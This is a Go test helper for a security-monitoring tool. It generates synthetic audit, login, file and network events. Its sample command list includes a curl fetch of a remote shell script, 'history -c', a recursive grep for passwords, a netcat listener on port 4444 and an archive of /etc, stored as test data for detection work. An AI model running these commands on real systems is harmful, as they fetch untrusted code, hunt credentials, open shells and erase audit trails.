package storetest

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

// Base is the start of the corpus: events span Base to Base+Days days.
var Base = time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)

// Days is how many UTC days the corpus spans.
const Days = 3

var (
	hosts    = []string{"web-1", "web-2", "db-1", "build"}
	users    = []string{"root", "alice", "bob", "deploy", "alice_w"}
	commands = [][]string{
		{"curl", "-s", "http://198.51.100.7/a.sh"},
		{"bash", "-c", "history -c"},
		{"ls", "-la", "/var/www"},
		{"systemctl", "restart", "nginx"},
		{"python3", "/opt/app/manage.py", "migrate"},
		{"tar", "czf", "/tmp/backup 100%.tgz", "/etc"},
		{"grep", "-R", "password", "/home"},
		{"nc", "-lvp", "4444"},
	}
	messages = []string{
		"Failed password for invalid user admin from 10.0.0.5 port 2222 ssh2",
		"Accepted publickey for deploy from 192.168.1.9 port 50122 ssh2",
		"pam_unix(sudo:session): session opened for user root",
		"Connection closed by authenticating user root 10.0.0.7 port 4242",
	}
	files = []string{"/etc/passwd", "/etc/shadow", "/etc/ssh/sshd_config", "/var/www/index.html"}
)

// Corpus returns n deterministic, varied events (exec, login, file and
// network events over several hosts, users and days), in time order.
func Corpus(n int, seed uint64) []event.Event {
	r := rand.New(rand.NewPCG(seed, 42))
	span := int64(Days * 24 * time.Hour)
	evs := make([]event.Event, n)
	for i := range evs {
		ts := Base.Add(time.Duration(span / int64(n) * int64(i))).Add(time.Duration(r.IntN(1000)))
		evs[i] = makeEvent(r, ts, i)
	}
	return evs
}

func makeEvent(r *rand.Rand, ts time.Time, i int) event.Event {
	h := hosts[r.IntN(len(hosts))]
	e := event.Event{
		Timestamp: ts,
		Event:     event.Meta{ID: event.DeterministicID(ts, h, fmt.Sprint(i)), Kind: event.KindEvent},
		Host:      &event.Host{ID: "id-" + h, Name: h},
	}
	if r.IntN(10) == 0 {
		e.Labels = map[string]string{"env": []string{"prod", "staging"}[r.IntN(2)]}
	}
	switch k := r.IntN(10); {
	case k < 6:
		c := commands[r.IntN(len(commands))]
		e.Event.Category, e.Event.Type, e.Event.Action = []string{"process"}, []string{"start"}, "exec"
		e.Event.Dataset = "vigil.audit"
		e.Process = &event.Process{Name: c[0], Executable: "/usr/bin/" + c[0], Args: c, PID: new(int64(100 + r.IntN(5000))),
			CommandLine: strings.Join(c, " "), WorkingDirectory: "/home/x"}
		e.User = &event.User{Name: users[r.IntN(len(users))]}
		if r.IntN(4) == 0 {
			e.Auditd = &event.Auditd{Data: map[string]string{"syscall": "execve", "a.b": "dotted"}}
		}
	case k < 8:
		m := r.IntN(len(messages))
		e.Event.Category, e.Event.Type, e.Event.Action = []string{"authentication"}, []string{"start"}, "ssh_login"
		e.Event.Dataset = "vigil.login"
		e.Event.Outcome = []string{"failure", "success", "success", "failure"}[m]
		e.Message = messages[m]
		e.Source = &event.Endpoint{IP: []string{"10.0.0.5", "192.168.1.9", "10.0.0.7"}[r.IntN(3)], Port: new(int64(1024 + r.IntN(60000)))}
		e.User = &event.User{Name: users[r.IntN(len(users))]}
	case k < 9:
		e.Event.Category, e.Event.Type, e.Event.Action = []string{"file"}, []string{"change"}, "modified"
		e.Event.Dataset = "vigil.fim"
		e.File = &event.File{Path: files[r.IntN(len(files))]}
	default:
		e.Event.Category, e.Event.Type, e.Event.Action = []string{"network", "process"}, []string{"connection", "start"}, "connected"
		e.Event.Dataset = "vigil.audit"
		e.Destination = &event.Endpoint{IP: "203.0.113." + fmt.Sprint(r.IntN(4)), Port: new(int64(443))}
		e.Process = &event.Process{Name: "curl", PID: new(int64(77))}
	}
	return e
}
